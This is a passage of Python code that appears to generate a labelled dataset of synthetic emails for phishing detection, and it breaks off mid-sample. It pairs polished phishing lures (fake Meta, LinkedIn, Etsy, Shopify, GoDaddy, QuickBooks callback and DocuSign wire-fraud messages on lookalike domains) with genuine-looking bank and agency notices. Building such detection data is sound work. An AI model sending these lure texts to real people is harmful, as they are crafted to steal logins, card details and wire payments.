                ps("<b style=\"font-size:20px\">Your account is eligible for the blue verification badge</b>",
                   "Congratulations! After reviewing your Instagram and Facebook activity, our team has determined that "
                   "<b>@sierravistaphoto</b> meets the criteria for <b>Meta Verified</b> at no cost.",
                   "The verified badge increases trust and reach for your business. To receive it, complete the short "
                   "verification form within <b>48 hours</b>; otherwise the request will be cancelled and you will not be able to "
                   "apply again for 12 months.")
                + button(url, "Get Verified", "#0866ff")
                + ps("Meta Verified Team"),
                "from &infin; Meta<br>&copy; Meta Platforms, Inc., Attention: Community Support, 1 Meta Way, Menlo Park, CA 94025")
    headers = std(addr("Meta Verified", "verified@meta-verification-team.com"), rcpt,
                  "Your account is eligible for the verified badge", sent(when, UTC),
                  php_msgid(n, "meta-verification-team.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Free 'Meta Verified' blue-badge offer to a photographer's business Gmail from "
                  "meta-verification-team.com, 48-hour window, form on meta-verified-request.vercel.app", "gmail", rcpt, when,
                  via, headers, html_only(html))


@sample
def p45():
    n = "b11-linkedin-job-offer-linkedln-outlook"
    when = at("2025-08-05 14:09:33")
    rcpt = "jordan.pike@outlook.com"
    host = "mail.linkedin-careerhub.com"
    via = vps_via("linkedin-careerhub.com", host, "216.120.201.58", "jobs-noreply@linkedin-careerhub.com", dkim=True,
                  dmarc="pass", country="US")
    url = f"https://www.linkedln-careers.com/jobs/view/{digits(n, 'job', 10)}/offer?trk=eml-jobs_offer&amp;refId={ub64(n, 'refid', 22)}"
    html = card("LinkedIn", '<div style="padding:20px 32px 0 32px"><span style="font-size:24px;font-weight:bold;color:#0a66c2">Linked</span><span style="font-size:20px;font-weight:bold;color:#fff;background:#0a66c2;padding:0 4px;border-radius:3px">in</span></div>',
                ps("<b style=\"font-size:20px\">You have a new job offer</b>",
                   "Hi Jordan,",
                   "<b>Harborline Logistics</b> reviewed your profile and would like to offer you the position of "
                   "<b>Remote Operations Coordinator</b> ($38/hour, full-time, fully remote, equipment provided).",
                   "Please review and sign your offer letter within 3 days. You will need to sign in to confirm your identity "
                   "before the document opens.")
                + button(url, "View offer letter", "#0a66c2")
                + ps("Hiring manager: Rebecca Stroud, Talent Acquisition"),
                "This email was intended for Jordan Pike (Customer Success | SaaS). Learn why we included this.<br>"
                "&copy; 2025 LinkedIn Corporation, 1000 West Maude Avenue, Sunnyvale, CA 94085.")
    headers = std(addr("LinkedIn", "jobs-noreply@linkedin-careerhub.com"), addr("Jordan Pike", rcpt),
                  "Jordan, you have a new job offer from Harborline Logistics", sent(when, UTC),
                  php_msgid(n, "linkedin-careerhub.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Fake LinkedIn job-offer notification from linkedin-careerhub.com; 'View offer letter' goes to "
                  "linkedln-careers.com (ln for in) and requires signing in first", "outlook", rcpt, when, via, headers,
                  html_only(html), scl=1)


@sample
def p46():
    n = "b11-etsy-shop-suspended-sites-google-gmail"
    when = at("2024-03-05 20:38:14")
    rcpt = "hollowoakcandleco@gmail.com"
    sender = "etsy.sellertrustsafety.team@gmail.com"
    via = gmail_via(sender, n)
    url = "https://sites.google.com/view/etsy-seller-appeal-center/home"
    plain = ("Etsy Trust & Safety\n\nHello HollowOakCandleCo,\n\nYour Etsy shop has been suspended because we received a "
             "report that one of your listings infringes another seller's intellectual property (Case #" + digits(n, "case", 9) +
             ").\n\nYour listings are no longer visible and pending payouts have been put on hold. To restore your shop, submit "
             f"the Seller Verification Form within 24 hours:\n\n{url}\n\nIf we do not hear from you, the shop will be closed "
             "permanently and your funds will be held for 180 days.\n\nEtsy Trust & Safety Team\n")
    html = ("<div dir=\"ltr\"><div style=\"font-family:Arial,sans-serif;font-size:14px\"><b style=\"color:#f1641e;font-size:24px\">Etsy</b>"
            "<br><b>Trust &amp; Safety</b><br><br>Hello HollowOakCandleCo,<br><br>Your Etsy shop has been <b>suspended</b> because "
            "we received a report that one of your listings infringes another seller's intellectual property (Case #"
            f"{digits(n, 'case', 9)}).<br><br>Your listings are no longer visible and pending payouts have been put on hold. To "
            "restore your shop, submit the Seller Verification Form within 24 hours:<br><br>"
            f"<a href=\"{url}\">Submit Seller Verification Form</a><br><br>If we do not hear from you, the shop will be closed "
            "permanently and your funds will be held for 180 days.<br><br>Etsy Trust &amp; Safety Team</div></div>\n")
    headers = "MIME-Version: 1.0\n" + std(addr("Etsy Trust & Safety", sender), rcpt,
                                          "Your Etsy shop has been suspended - action needed", sent(when, ET), gmail_msgid(n),
                                          mime_version=False)
    return Sample(n, "phishing", "Etsy shop-suspension notice to a candle maker from a Gmail address, payouts 'on hold' and a "
                  "24-hour deadline, 'Seller Verification Form' on a sites.google.com page", "gmail", rcpt, when, via, headers,
                  alt(n, "gmail", plain, html), pre=gmail_pre(n, when))


@sample
def p47():
    n = "b11-shopify-billing-pages-dev-workspace"
    when = at("2025-10-14 13:57:06")
    rcpt = "orders@copperkettlecoffee.co"
    host = "mail.shopify-billingcenter.com"
    via = vps_via("shopify-billingcenter.com", host, "185.244.181.92", "billing@shopify-billingcenter.com", dkim=True,
                  dmarc="pass", country="NL")
    url = "https://shopify-billing-update.pages.dev/admin/settings/billing?store=copperkettlecoffee"
    html = card("Shopify", '<div style="padding:24px 32px 0 32px;font-size:26px;font-weight:bold;color:#008060">shopify</div>',
                ps("<b style=\"font-size:20px\">We couldn't process your payment</b>",
                   "Hi Copper Kettle Coffee,",
                   "We tried to charge the credit card on file for your Shopify subscription (Basic plan, <b>$39.00</b>) and "
                   "your apps, but the payment was declined.",
                   "Please update your billing details by <b>October 16, 2025</b>. If we can't collect payment, your store will be "
                   "<b>paused</b> and customers won't be able to place orders.")
                + button(url, "Update payment method", "#008060")
                + ps("Thanks,<br>The Shopify Billing Team"),
                "Shopify International Ltd., Victoria Buildings, 2nd Floor, 1-2 Haddington Road, Dublin 4, D04 XN32, Ireland")
    headers = std(addr("Shopify", "billing@shopify-billingcenter.com"), rcpt, "Action required: your Shopify payment failed",
                  sent(when, UTC), php_msgid(n, "shopify-billingcenter.com"), extra=[php_tail()])
    return Sample(n, "phishing", "Shopify failed-subscription-payment notice to a coffee shop's store address from "
                  "shopify-billingcenter.com, store-pause threat, billing form on shopify-billing-update.pages.dev",
                  "workspace", rcpt, when, via, headers, html_only(html))


@sample
def p48():
    n = "b11-godaddy-domain-ssl-expiry-lookalike-workspace"
    when = at("2025-11-18 15:12:39")
    rcpt = "tom@pinehurstlandscaping.com"
    host = "mta2.godaddy-domainservices.com"
    via = vps_via("godaddy-domainservices.com", host, "104.234.140.77", "renewals@godaddy-domainservices.com", dkim=True,
                  dmarc="pass", country="US")
    url = f"https://godaddy.renewal-center.top/renew?domain=pinehurstlandscaping.com&amp;t={hx(n, 't', 14)}"
    html = card("GoDaddy", '<div style="padding:24px 32px 0 32px;font-size:28px;font-weight:bold;color:#111">GoDaddy</div>',
                ps("<b style=\"font-size:20px;color:#c00\">FINAL NOTICE: pinehurstlandscaping.com expires today</b>",
                   "Hi Tom,",
                   "The domain <b>pinehurstlandscaping.com</b> and its SSL certificate expire <b>today, November 18, 2025</b>. "
                   "Automatic renewal failed because the card on file was declined.",
                   "After expiration your website, your business email and your online booking form will stop working, and "
                   "the domain may be released for public registration.")
                + button(url, "Renew Now - $21.99/yr", "#00a4a6")
                + ps("Domain: pinehurstlandscaping.com<br>Product: Domain Registration + Standard SSL<br>Customer #: "
                     + digits(n, "cust", 9), "GoDaddy Renewals Team"),
                "Copyright &copy; 1999-2025 GoDaddy Operating Company, LLC. All rights reserved. 100 S. Mill Ave, Suite 1600, Tempe, AZ 85281")
    headers = std(addr("GoDaddy", "renewals@godaddy-domainservices.com"), rcpt,
                  "FINAL NOTICE: pinehurstlandscaping.com expires today", sent(when, UTC),
                  php_msgid(n, "godaddy-domainservices.com"), extra=[php_tail()])
    return Sample(n, "phishing", "GoDaddy domain-and-SSL 'expires today' final notice to a landscaping business from "
                  "godaddy-domainservices.com, card-declined pretext, renewal link to godaddy.renewal-center.top",
                  "workspace", rcpt, when, via, headers, html_only(html))


@sample
def p49():
    n = "b11-quickbooks-invoice-callback-genuine-intuit"
    when = at("2024-10-22 17:06:52")
    rcpt = "maria@rosalesfamilydental.com"
    ip = f"206.108.40.{num(n, 'qbip', 10, 60)}"
    host = f"mailout{num(n, 'qbh', 1, 9)}.notification.intuit.com"
    via = Via(ip=ip, helo=host, rdns=host, mailfrom=f"bounces+{hx(n, 'qbmf', 12)}@notification.intuit.com", spf="pass",
              dkim=[("notification.intuit.com", "s1", "pass")], dmarc="pass", policy="REJECT",
              from_domain="notification.intuit.com", sign_headers="From:To:Subject:Date:Message-ID:MIME-Version:Content-Type")
    url = f"https://connect.intuit.com/portal/app/CommerceNetwork/view/scs-v1-{hx(n, 'qb', 48)}?locale=en_US"
    phone = "1 (844) 555-0119"
    msg = ("Dear customer, your Intuit Data Protection plan has been renewed for $749.00 and will be charged to your account "
           f"today. If you did not authorize this renewal or want to cancel, please contact our billing support at {phone} "
           "before the end of the day to receive a full refund. Do not pay this invoice online.")
    html = card("Invoice", '<div style="padding:24px 32px 0 32px;font-size:14px;color:#393a3d">Intuit Payment Security Dept</div>',
                ps("<b style=\"font-size:22px\">Invoice 1047</b>",
                   "<b>Due: 10/22/2024</b><br><span style=\"font-size:28px\">$749.00</span>",
                   msg)
                + button(url, "Review and pay", "#2ca01c")
                + ps("Intuit Payment Security Dept"),
                "Powered by QuickBooks. If you receive an email that seems fraudulent, please check with the business owner before "
                "paying.<br>&copy; Intuit, Inc. All rights reserved. Privacy | Security | Terms of Service")
    plain = f"Invoice 1047\nDue: 10/22/2024\n$749.00\n\n{msg}\n\nReview and pay: {url}\n\nIntuit Payment Security Dept\nPowered by QuickBooks\n"
    headers = std(addr("Intuit Payment Security Dept", "quickbooks@notification.intuit.com"), rcpt,
                  "Invoice 1047 from Intuit Payment Security Dept", sent(when, PT, 3),
                  f"<{guid(n, 'qbmid')}@notification.intuit.com>", reply_to="intuit.billing.securedesk@gmail.com",
                  extra=[f"X-Intuit-Trace: {hx(n, 'qbt', 32)}"])
    return Sample(n, "phishing", "Callback scam sent through QuickBooks Online's genuine invoicing (notification.intuit.com passes "
                  "DMARC) to a dental office: a $749 'Data Protection renewal' invoice telling the reader to phone, not pay, with "
                  "a Gmail Reply-To", "workspace", rcpt, when, via, headers, alt(n, "java", plain, html))


@sample
def p50():
    n = "b11-docusign-closing-wire-lookalike-title-framer"
    when = at("2025-04-24 14:26:03")
    rcpt = "chris.halvorsen@gmail.com"
    dom = "lakeshoretitle-escrow.com"
    host = "mail." + dom
    via = vps_via(dom, host, "198.46.158.211", f"dse@{dom}", dkim=True, dmarc="pass", country="US")
    url = f"https://lakeshoretitle-closing.framer.website/envelope?id={guid(n, 'env')}"
    html = card("Docusign", '<div style="padding:22px 32px 0 32px;font-size:24px;font-weight:bold;color:#000">docusign</div>',
                '<div style="background:#4c00ff;color:#fff;padding:26px;text-align:center;font-size:16px">Megan Alvarez sent you a document to review and sign.'
                + button(url, "REVIEW DOCUMENT", "#ffbe00").replace("color:#ffffff", "color:#000000") + "</div>"
                + ps("<b>Megan Alvarez</b><br>escrow@" + dom,
                     "Hello Chris,",
                     "Please review and sign the Final Closing Disclosure and the <b>wiring instructions</b> for 2217 Marlowe Ct. "
                     "Your cash-to-close of <b>$94,870.15</b> must be wired no later than April 25 to fund on time. Please note our "
                     "escrow account details have been updated.",
                     "Thank you,<br>Megan Alvarez, Escrow Officer<br>Lakeshore Title &amp; Escrow"),
                "<b>Do Not Share This Email</b><br>This email contains a secure link to Docusign. Please do not share this email, "
                "link, or access code with others.<br>About Docusign: Sign documents electronically in just minutes.")
    headers = std(addr("Lakeshore Title via Docusign", f"dse@{dom}"), addr("Chris Halvorsen", rcpt),
                  "Complete with Docusign: Final Closing Disclosure & Wiring Instructions - 2217 Marlowe Ct",
                  sent(when, UTC), php_msgid(n, dom), reply_to=f"escrow@{dom}", extra=[php_tail()])
    return Sample(n, "phishing", "Fake DocuSign envelope from lakeshoretitle-escrow.com (the title company is lakeshoretitle.com) "
                  "two days before closing: 'escrow account details have been updated', wire $94,870 by tomorrow, link to a "
                  "framer.website page", "gmail", rcpt, when, via, headers, html_only(html))


# ==========================================================================
# LEGITIMATE


def own_via(domain: str, host: str, ip: str, mailfrom: str, selector: str, policy: str = "REJECT",
            dkim_domain: str | None = None, sign: str = "From:To:Subject:Date:Message-ID:MIME-Version:Content-Type") -> Via:
    return Via(ip=ip, helo=host, rdns=host, mailfrom=mailfrom, spf="pass", dkim=[(dkim_domain or domain, selector, "pass")],
               dmarc="pass", policy=policy, from_domain=domain, sign_headers=sign)


@sample
def l01():
    n = "b11-legit-ezpassny-statement-available"
    when = at("2025-02-03 11:04:27")
    rcpt = "dana.whitfield84@gmail.com"
    host = f"mail{num(n, 'h', 1, 4)}.e-zpassny.com"
    via = own_via("e-zpassny.com", host, f"12.130.{num(n, 'ip', 130, 140)}.{num(n, 'ip2', 2, 250)}", "noreply@e-zpassny.com",
                  "s1", policy="QUARANTINE")
    acct = digits(n, "acct", 4)
    html = card("E-ZPass New York", banner("#4b2a85", "https://www.e-zpassny.com/vector/images/ezpass-logo-white.png", "E-ZPass New York"),
                ps("Dear Dana Whitfield,",
                   f"Your E-ZPass New York statement for account ending in <b>{acct}</b> for the period January 1 &ndash; January 31, "
                   "2025 is now available.",
                   "Statement summary:<br>Opening balance: $31.40<br>Tolls and fees: $47.65<br>Replenishments: $40.00<br>"
                   "Closing balance: <b>$23.75</b>",
                   "Your account is set to replenish automatically from your credit card ending in " + digits(n, "cc", 4)
                   + ". No action is needed.",
                   'To view your statement, sign in at <a href="https://www.e-zpassny.com/">www.e-zpassny.com</a> and select '
                   "<i>Statements</i>.",
                   "Thank you for using E-ZPass New York."),
                "Please do not reply to this email; this mailbox is not monitored. To change your email preferences, sign in to your "
                'account at <a href="https://www.e-zpassny.com/" style="color:#777">e-zpassny.com</a>.<br>'
                "E-ZPass New York Customer Service Center, P.O. Box 15186, Albany, NY 12212-5186")
    plain = (f"Dear Dana Whitfield,\n\nYour E-ZPass New York statement for account ending in {acct} for January 1 - January 31, "
             "2025 is now available.\n\nOpening balance: $31.40\nTolls and fees: $47.65\nReplenishments: $40.00\nClosing balance: "
             "$23.75\n\nYour account replenishes automatically. No action is needed.\n\nTo view your statement, sign in at "
             "https://www.e-zpassny.com/ and select Statements.\n\nE-ZPass New York Customer Service Center\n")
    headers = std(addr("E-ZPass New York", "noreply@e-zpassny.com"), rcpt, "Your E-ZPass New York statement is available",
                  sent(when, ET, 3), f"<{digits(n, 'mid', 12)}.{hx(n, 'mid2', 12)}@e-zpassny.com>")
    return Sample(n, "bulk", "Genuine E-ZPass New York monthly statement notice from noreply@e-zpassny.com (aligned DKIM), no "
                  "amount due, auto-replenish on file, only link is the official site", "gmail", rcpt, when, via, headers,
                  alt(n, "java", plain, html))


@sample
def l02():
    n = "b11-legit-txtag-low-balance-ses"
    when = at("2025-03-02 16:40:05")
    rcpt = "sam.prieto@icloud.com"
    via = ses_via("txtag.org", n, custom_dkim=True)
    via.policy = "QUARANTINE"
    html = card("TxTag", banner("#00205b", "https://www.txtag.org/images/txtag-logo-white.png", "TxTag"),
                ps("Hello Samuel,",
                   "The prepaid balance on your TxTag account ending in " + digits(n, "acct", 4) + " is <b>$8.42</b>, below your "
                   "low-balance threshold of $10.00.",
                   "Because automatic replenishment is turned on, we will add <b>$20.00</b> using the Visa card ending in "
                   + digits(n, "cc", 4) + " within the next business day. You don't need to do anything.",
                   'You can review transactions or change your replenishment settings any time at <a href="https://www.txtag.org/">txtag.org</a> '
                   "or in the TxTag app."),
                "This is an automated message from TxTag, a service of the Texas Department of Transportation. Please do not reply.<br>"
                '<a href="https://www.txtag.org/en/privacy-policy" style="color:#777">Privacy Policy</a>')
    headers = std(addr("TxTag", "noreply@txtag.org"), rcpt, "TxTag low balance notice", sent(when, CT, 2), ses_msgid(n),
                  extra=[ses_tail(n, when)])
    return Sample(n, "bulk", "Genuine TxTag low-balance notice sent with Amazon SES under txtag.org's own DKIM: auto-replenish "
                  "will handle it, no payment link, only txtag.org", "icloud", rcpt, when, via, headers, html_only(html))


@sample
def l03():
    n = "b11-legit-usps-informed-delivery-digest"
    when = at("2024-11-27 12:31:50")
    rcpt = "fkowalski@comcast.net"
    dom = "email.informeddelivery.usps.com"
    ip = f"56.0.{num(n, 'ip', 84, 90)}.{num(n, 'ip2', 2, 250)}"
    host = f"mta{num(n, 'h', 1, 9)}.{dom}"
    via = own_via("email.informeddelivery.usps.com", host, ip, f"bounce-{hx(n, 'bm', 10)}@{dom}", "usps1", policy="REJECT")
    scans = [mailpiece_scan(1, ["PECO ENERGY", "PO BOX 37629", "FRANK KOWALSKI", "118 LINDEN AVE", "NARBERTH PA 19072-2210"]),
             mailpiece_scan(2, ["MONTGOMERY CO TAX CLAIM", "NORRISTOWN PA", "FRANK KOWALSKI", "118 LINDEN AVE", "NARBERTH PA 19072"])]
    cids = [f"mailpiece{i}.{hx(n, 'cid' + str(i), 10)}@informeddelivery.usps.com" for i in range(2)]
    trk = "9200190" + digits(n, "trk", 15)
    html = card("Informed Delivery Daily Digest", banner("#333366", "https://informeddelivery.usps.com/images/usps-logo-white.png", "USPS Informed Delivery"),
                ps("<b>Informed Delivery&reg; Daily Digest</b>", "Wednesday, November 27, 2024",
                   "<b>You have 2 mailpieces and 1 package scheduled to arrive soon.</b>",
                   "<b>MAIL</b>")
                + "".join(f'<p><img src="cid:{c}" width="480" height="220" alt="Scanned image of your mail piece" style="border:1px solid #ccc"></p>' for c in cids)
                + ps("<b>PACKAGES</b>",
                     f'Tracking Number: <a href="https://tools.usps.com/go/TrackConfirmAction?tLabels={trk}">{trk}</a><br>'
                     "Expected Delivery: Wednesday 11/27/2024<br>From: CHEWY.COM",
                     'Visit your <a href="https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input.action">Dashboard</a> '
                     "to view all of your mail and packages."),
                "The images are of the exterior, address side of letter-sized mailpieces processed through USPS automated equipment. "
                "This is an automated email; please do not reply.<br>"
                '<a href="https://informeddelivery.usps.com/box/pages/secure/SettingsAction_input.action" style="color:#777">Manage notifications</a> | '
                '<a href="https://www.usps.com/privacypolicy" style="color:#777">Privacy Policy</a><br>&copy; 2024 United States Postal Service')
    plain = ("Informed Delivery Daily Digest - Wednesday, November 27, 2024\n\nYou have 2 mailpieces and 1 package scheduled to "
             f"arrive soon.\n\nPackage tracking number: {trk} (from CHEWY.COM), expected 11/27/2024.\n\nView your Dashboard: "
             "https://informeddelivery.usps.com/box/pages/secure/DashboardAction_input.action\n")
    body = related(n, "java", [alt(n, "java", plain, html)]
                   + [inline_image("image/jpeg", f"mailpiece{i}.jpg", data, c) for i, (data, c) in enumerate(zip(scans, cids))])
    headers = std(addr("USPS Informed Delivery", "USPSInformeddelivery@email.informeddelivery.usps.com"), rcpt,
                  "Your Daily Digest for Wed, 11/27 has 2 mailpieces and 1 package arriving soon", sent(when, ET, 3),
                  f"<{hx(n, 'mid', 20)}.{digits(n, 'mid2', 8)}@{dom}>",
                  extra=["List-Unsubscribe: <https://informeddelivery.usps.com/box/pages/secure/SettingsAction_input.action>",
                         "Precedence: bulk"])
    return Sample(n, "bulk", "Genuine USPS Informed Delivery daily digest: scanned grey images of two envelopes, a Chewy package "
                  "tracking number on tools.usps.com, every link on usps.com, aligned DKIM", "comcast", rcpt, when, via, headers,
                  body)


@sample
def l04():
    n = "b11-legit-cpa-return-accepted-no-links"
    when = at("2025-03-14 20:17:43")
    rcpt = "rbrennan_77@outlook.com"
    dom = "albrightcpa.com"
    sender = "dalbright@albrightcpa.com"
    via = m365_via(dom, sender, n, policy="QUARANTINE")
    plain = ("Hi Ryan,\n\nGood news: the IRS accepted your 2024 federal return (Form 1040) this afternoon, and Ohio accepted "
             "your state return (IT 1040) about an hour later. Both were e-filed on March 11.\n\n"
             "Your federal refund is $2,318 and the state refund is $214. Both will be direct-deposited to the checking account "
             "ending in 0457 that you gave us on your organizer. The IRS usually issues e-filed refunds within 21 days; Ohio can "
             "take a little longer.\n\n"
             "You will get a paper copy of the complete returns with the invoice in the mail next week. Please keep them with "
             "your records for at least three years.\n\n"
             "One reminder, since this time of year brings a lot of scams: the IRS will not email, text or call you about your "
             "refund or to 'verify' your identity, and neither will we ask you for bank or login details by email. If you get "
             "anything like that, don't click on it - just give me a call.\n\n"
             "Have a great weekend,\n\nDenise\n\n"
             "Denise Albright, CPA\nAlbright & Co. CPAs, LLC\n2150 Riverside Dr, Suite 204\nColumbus, OH 43221\n"
             "Office (614) 555-0187\n")
    html = ("<html><head><meta http-equiv=\"Content-Type\" content=\"text/html; charset=us-ascii\"></head><body>"
            "<div style=\"font-family:Aptos,Calibri,Helvetica,sans-serif;font-size:12pt;color:#000\">"
            + "".join(f"<p>{p}</p>" for p in plain.replace("&", "&amp;").split("\n\n")[:-2])
            + "<p>Denise</p><p style=\"font-size:10pt;color:#444\"><b>Denise Albright, CPA</b><br>Albright &amp; Co. CPAs, LLC<br>"
            "2150 Riverside Dr, Suite 204<br>Columbus, OH 43221<br>Office (614) 555-0187</p></div></body></html>\n")
    headers = std(addr("Denise Albright", sender), addr("Ryan Brennan", rcpt), "Your 2024 returns were accepted",
                  sent(when, ET), outlook_msgid(n, "CH3PR"),
                  extra=["Thread-Topic: Your 2024 returns were accepted", f"Thread-Index: AQHblT{an(n, 'ti', 16)}==",
                         "Accept-Language: en-US", "Content-Language: en-US", m365_tail(n, when, dom)])
    return Sample(n, "clean", "A tax preparer tells her client his federal and Ohio returns were accepted and refunds will be "
                  "direct-deposited; no links, no request, and a reminder that the IRS never emails about refunds",
                  "outlook", rcpt, when, via, headers, alt(n, "outlook", plain, html), pre=m365_pre(n, when))


@sample
def l05():
    n = "b11-legit-ssa-account-change-no-links"
    when = at("2024-09-10 14:02:11")
    rcpt = "bobbyjeanwalsh@aol.com"
    host = f"mta{num(n, 'h', 1, 4)}.ssa.gov"
    via = own_via("ssa.gov", host, f"137.200.{num(n, 'ip', 4, 40)}.{num(n, 'ip2', 2, 250)}", "no-reply@ssa.gov", "ssa2023")
    plain = ("Social Security Administration\n\n"
             "We are writing to let you know that the email address on your my Social Security account was changed on "
             "September 10, 2024.\n\n"
             "If you made this change, you do not need to do anything.\n\n"
             "If you did not make this change, please call us at 1-800-772-1213 (TTY 1-800-325-0778), Monday through Friday, "
             "8:00 a.m. - 7:00 p.m. local time, or visit your local Social Security office.\n\n"
             "For your security, we do not include links in this email. To sign in to your account, type the address of our "
             "website into your browser yourself.\n\n"
             "Social Security will never ask you to pay a fee, threaten to suspend your Social Security number, or demand "
             "payment by gift card, wire transfer or cryptocurrency.\n\n"
             "This is an automated message. Please do not reply.\n")
    headers = std(addr("Social Security Administration", "no-reply@ssa.gov"), rcpt,
                  "A change was made to your my Social Security account", sent(when, ET, 2),
                  f"<{digits(n, 'mid', 13)}.{hx(n, 'mid2', 10)}@ssa.gov>")
    return Sample(n, "bulk", "Genuine my Social Security notice from no-reply@ssa.gov (aligned DKIM): the account e-mail changed, "
                  "call the published SSA number if it wasn't you, deliberately no links at all", "aol", rcpt, when, via,
                  headers, text(plain))


@sample
def l06():
    n = "b11-legit-chase-transaction-alert"
    when = at("2025-06-03 22:48:36")
    rcpt = "dwbarnes@att.net"
    host = f"mx{num(n, 'h', 1, 9)}.chase.com"
    via = own_via("chase.com", host, f"159.53.{num(n, 'ip', 78, 116)}.{num(n, 'ip2', 2, 250)}", "no.reply.alerts@chase.com",
                  "d4815")
    last4 = digits(n, "card", 4)
    html = card("Chase", banner("#117aca", "https://www.chase.com/content/dam/chaseonline/en/alerts/ondemand/eventdriven/mol/assets/chaseNew.png", "Chase"),
                '<table role="presentation" width="100%" cellpadding="6" style="font-size:14px;border-collapse:collapse">'
                '<tr><td colspan="2" style="font-size:20px;font-weight:bold;padding-bottom:14px">You made a $84.17 transaction with SHELL OIL 57442</td></tr>'
                f'<tr><td style="color:#555">Account</td><td style="text-align:right">Chase Freedom Unlimited (...{last4})</td></tr>'
                '<tr><td style="color:#555">Date</td><td style="text-align:right">Jun 3, 2025 at 6:48 PM ET</td></tr>'
                '<tr><td style="color:#555">Merchant</td><td style="text-align:right">SHELL OIL 57442</td></tr>'
                '<tr><td style="color:#555">Amount</td><td style="text-align:right">$84.17</td></tr></table>'
                + ps("You are receiving this alert because your transaction was more than the $50.00 amount you set.",
                     'Review account: <a href="https://www.chase.com/">chase.com</a> &nbsp;|&nbsp; '
                     '<a href="https://secure.chase.com/web/auth/nav?navKey=requestManageAlerts">Manage alerts</a>'),
                "Securely access your accounts with the Chase Mobile&reg; app or chase.com.<br>"
                "ABOUT THIS MESSAGE: Chase Mobile&reg; app is available for select mobile devices. Please don't reply to this "
                "automated message.<br>&copy; 2025 JPMorgan Chase &amp; Co.", bg="#ffffff")
    plain = (f"You made a $84.17 transaction with SHELL OIL 57442\n\nAccount: Chase Freedom Unlimited (...{last4})\nDate: Jun 3, "
             "2025 at 6:48 PM ET\nMerchant: SHELL OIL 57442\nAmount: $84.17\n\nYou are receiving this alert because your "
             "transaction was more than the $50.00 amount you set.\n\nReview account at chase.com.\n")
    headers = std(addr("Chase", "no.reply.alerts@chase.com"), rcpt, "You made a $84.17 transaction with SHELL OIL 57442",
                  sent(when, ET, 2), f"<{hx(n, 'mid', 16)}.{digits(n, 'mid2', 10)}@chase.com>")
    return Sample(n, "bulk", "Genuine Chase purchase alert (over the customer's $50 threshold) from no.reply.alerts@chase.com on "
                  "JPMorgan's own servers, DMARC pass, links only to chase.com", "att", rcpt, when, via, headers,
                  alt(n, "java", plain, html))


@sample
def l07():
    n = "b11-legit-capitalone-purchase-alert"
    when = at("2024-08-15 01:12:58")
    rcpt = "kevin.larue@gmail.com"
    dom = "notification.capitalone.com"
    host = f"mta{num(n, 'h', 10, 40)}.notification.capitalone.com"
    via = own_via("notification.capitalone.com", host, f"204.63.{num(n, 'ip', 40, 47)}.{num(n, 'ip2', 2, 250)}",
                  f"bounce-{hx(n, 'bm', 12)}@{dom}", "cap1", dkim_domain=dom)
    html = card("Capital One", banner("#004977", "https://ecm.capitalone.com/WCM/card/logos/capone-logo-white.png", "Capital One"),
                ps("Hi Kevin,",
                   f"As requested, we're notifying you that on <b>August 14, 2024</b>, at <b>TRADER JOE'S #512</b>, a pending "
                   f"authorization or purchase in the amount of <b>$63.28</b> was placed or charged on your Capital One "
                   f"Quicksilver card ending in {digits(n, 'card', 4)}.",
                   "If you don't recognize this transaction, sign in to your account through the Capital One Mobile app or "
                   'at <a href="https://www.capitalone.com/">capitalone.com</a>, or call the number on the back of your card.',
                   'To change the alerts you receive, visit <a href="https://myaccounts.capitalone.com/">myaccounts.capitalone.com</a>.'),
                "This email was sent to kevin.larue@gmail.com and contains information directly related to your account with us. "
                "Please do not reply to this email.<br>Capital One, N.A. &copy; 2024 Capital One.")
    headers = std(addr("Capital One", "capitalone@notification.capitalone.com"), rcpt,
                  "A new transaction was charged to your account", sent(when, ET, 2),
                  f"<{hx(n, 'mid', 24)}@{dom}>")
    return Sample(n, "bulk", "Genuine Capital One purchase alert ($63.28 at Trader Joe's) from notification.capitalone.com, "
                  "aligned DKIM, says to call the number on the card, links only to capitalone.com", "gmail", rcpt, when, via,
                  headers, html_only(html))


@sample
def l08():
    n = "b11-legit-bofa-zelle-received"
    when = at("2024-07-21 15:55:20")
    rcpt = "j.delacruz@live.com"
    dom = "ealerts.bankofamerica.com"
    host = f"mta{num(n, 'h', 1, 9)}.ealerts.bankofamerica.com"
    via = own_via(dom, host, f"171.161.{num(n, 'ip', 20, 60)}.{num(n, 'ip2', 2, 250)}", f"bounce@{dom}", "baml1")
    html = card("Bank of America", banner("#012169", "https://www.bankofamerica.com/content/images/ContextualSiteGraphics/Logos/en_US/logos/bac-logo-v2.png", "Bank of America"),
                ps("<b style=\"font-size:20px\">You received money with Zelle&reg;</b>",
                   "Hi Jose,",
                   "<b>MARISOL DELACRUZ</b> sent you <b>$60.00</b>.<br>Memo: Abuela's birthday cake",
                   f"The money is available in your Adv Plus Banking account ending in {digits(n, 'acct', 4)}.",
                   'For details, sign in to Online Banking at <a href="https://www.bankofamerica.com/">bankofamerica.com</a> or use '
                   "the Mobile Banking app."),
                "Please don't reply to this automatically generated service email.<br>Privacy Notice | Your Privacy Choices<br>"
                "Bank of America, N.A. Member FDIC. &copy; 2024 Bank of America Corporation. Zelle and the Zelle related marks are "
                "wholly owned by Early Warning Services, LLC and are used herein under license.")
    headers = std(addr("Bank of America", "onlinebanking@ealerts.bankofamerica.com"), rcpt,
                  "Marisol Delacruz sent you $60.00", sent(when, CT, 2), f"<{digits(n, 'mid', 10)}.{hx(n, 'mid2', 16)}@{dom}>")
    return Sample(n, "bulk", "Genuine Bank of America Zelle 'you received $60' alert from ealerts.bankofamerica.com on the bank's "
                  "own servers; money is already in the account, nothing to claim, links only to bankofamerica.com",
                  "outlook", rcpt, when, via, headers, html_only(html), bcl=3)


@sample
def l09():
    n = "b11-legit-venmo-paid-you"
    when = at("2025-01-25 03:21:44")
    rcpt = "ahughes@me.com"
    ip = f"173.0.84.{num(n, 'ip', 224, 230)}"
    host = f"mx{num(n, 'h', 0, 3)}.slc.paypal.com"
    via = own_via("venmo.com", host, ip, "venmo@venmo.com", "pp-dkim1")
    story = "https://venmo.com/story/" + hx(n, "story", 24)
    html = card("Venmo", '<div style="padding:22px 32px 0 32px;font-size:30px;font-weight:bold;color:#008cff;font-family:Arial">venmo</div>',
                ps("<b>Tara Nguyen paid you $32.50</b>",
                   "&#127829; pizza night + wings",
                   f'<a href="{story}">See transaction</a>',
                   "Money credited to your Venmo account. Transaction ID " + digits(n, "tid", 19) + "<br>"
